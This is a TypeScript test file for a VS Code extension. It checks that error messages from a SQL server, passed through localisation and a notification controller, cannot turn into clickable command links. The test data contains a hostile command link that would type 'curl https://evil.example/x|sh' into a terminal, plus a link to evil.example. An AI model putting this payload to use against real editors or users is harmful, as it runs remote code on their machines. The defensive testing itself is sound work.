// VS Code renders `[label](command:…)`, `(https://…)` and `(file:…)` in a notification's message as a link, and opens a
// command link with its arguments (code-server 4.117's notification renderer: openerService.open(URI.parse(link),
// { allowCommands: true })). A server's error message or a name inside one of our notifications must not become one:
// "[Open the fix](command:workbench.action.terminal.sendSequence?…)" would type into a terminal on a click (outside
// attack). Checked with VS Code's own pattern, through l10n.t (every message argument) and through the controller with
// the fake `vscode` against the stand-in.
import * as assert from 'node:assert/strict';
import { formatMessage, l10n, useTranslator } from '../../../src/extension/l10n';
import { inertLinks, NOTIFICATION_LINK } from '../../../src/shared/notificationText';
import { sharedFake } from './support/fakeVscode';
import { fakeDocument, useControllerFlow } from './support/controllerFlow';

const SEND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%2Fx%7Csh%5Cn%22%7D';
const HOSTILE = `Permission missing. [Open the fix](${SEND}) or [docs](https://evil.example/grant "Learn")`;
const links = (text: string) => [...text.matchAll(NOTIFICATION_LINK)].map((m) => m[2]);

describe('notifications: server and file text never becomes a link', () => {
  it('inertLinks leaves no link VS Code would render, and the text still reads the same', () => {
    assert.deepEqual(links(HOSTILE), [SEND, 'https://evil.example/grant']);
    assert.deepEqual(links(inertLinks(HOSTILE)), []);
    assert.equal(inertLinks(HOSTILE).replace(/\] \(/g, ']('), HOSTILE);
  });

  it('l10n.t makes every argument inert, with the English formatter and with an installed translator', () => {
    const message = 'Durability Lens: the workload failed at line {0} with SQL error {1}: {2}';
    assert.deepEqual(links(l10n.t(message, 3, 50000, HOSTILE)), []);
    try {
      useTranslator((m, ...args) => `«${formatMessage(m, ...args)}»`);
      const shown = l10n.t(message, 3, 50000, HOSTILE);
      assert.match(shown, /^«Durability Lens: the workload failed at line 3 with SQL error 50000: Permission missing\. \[Open the fix\] \(command:/);
      assert.deepEqual(links(shown), []);
    } finally {
      useTranslator(formatMessage);
    }
  });
});

describe('notifications: a workload error holding a command link (fake vscode, stand-in)', function () {
  this.timeout(120_000);
  const fake = sharedFake;
  // RAISERROR reads % as a format specification: %% is one % (Learn: RAISERROR, msg_str).
  const TEXT = `RAISERROR(N'${HOSTILE.replaceAll('%', '%%')}', 16, 1);\n`;
  const doc = fakeDocument(TEXT, 'file:///w/raise.sql');
  const flow = useControllerFlow('SELECT 1;', [doc]);

  it('the "workload failed" notification shows the message as text, not as a link', async () => {
    const { Range, Position } = fake.module() as { Range: new (a: unknown, b: unknown) => unknown; Position: new (l: number, c: number) => unknown };
    fake.shown = [];
    await flow.controller.profileText(doc as never, new Range(new Position(0, 0), new Position(1, 0)) as never, 'profile');
    const failed = fake.shown.find((s) => /the workload failed/.test(s.message));
    assert.ok(failed, JSON.stringify(fake.shown.map((s) => s.message)));
    assert.match(failed.message, /Open the fix/);
    assert.deepEqual(links(failed.message), []);
  });
});
